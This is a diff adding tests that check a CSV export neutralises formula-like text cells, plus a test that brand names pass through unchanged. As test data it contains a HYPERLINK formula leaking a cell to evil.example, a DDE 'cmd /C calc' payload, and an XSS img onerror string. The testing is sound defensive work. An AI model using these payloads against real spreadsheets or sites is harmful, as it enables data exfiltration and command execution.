@@ -130,3 +130,34 @@ def test_explore_filters_list_the_contracts_values_without_a_query(tmp_path: Pat
     assert {"label": "pre-sale deposit", "value": "presale_deposit"} in promotion.options
     assert [o["value"] for o in find(page, "explore-wave").options] == ["presale", "wave1", "wave2", "other"]
     assert find(page, "explore-fig-presale_phase") is not None
+
+
+def test_csv_text_cells_that_start_like_a_formula_are_neutralised_and_numbers_never():
+    import csv
+    import io
+
+    hostile = {
+        "brand": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "category": "+cmd|' /C calc'!A0", "province": "-2+3", "channel": "@SUM(A1:A9)",
+        "promotion": "\t=1+1", "wave": "\r=1+1",
+    }
+    rows = [(DAY0, 3, 2, -129_00, 0, 5, 1)]  # a negative amount, as no rollup holds, stays a number
+    parsed = list(csv.DictReader(io.StringIO(explore.to_csv(rows, hostile))))
+    assert len(parsed) == 1
+    row = parsed[0]
+    for dim, value in hostile.items():
+        assert row[dim] == "'" + value, dim  # shown as the text it is, never run
+    assert row["gmv_fen"] == "-12900" and row["gmv_yuan"] == "-129.00" and row["refund_fen"] == "5"
+    assert row["window_start_cst"] == "2021-11-11T00:00:00+08:00"
+
+
+def test_csv_odd_brand_names_are_kept_as_they_are():
+    import csv
+    import io
+
+    for brand in ("<img src=x onerror=alert(1)>", "花西子🌸", "Perfect Diary", "3CE", "a=b", "x-y"):
+        text = explore.to_csv([(DAY0, 1, 1, 12_345, 0, 0, 0)], {"category": "beauty", "brand": brand})
+        header, row = list(csv.reader(io.StringIO(text)))
+        assert header[:3] == ["window_start_cst", "category", "brand"]
+        assert row[1:3] == ["beauty", brand] and row[5] == "12345" and row[-2] == "123.45"
+    assert explore.text_cell("=1") == "'=1" and explore.text_cell("1=1") == "1=1" and explore.text_cell("") == ""
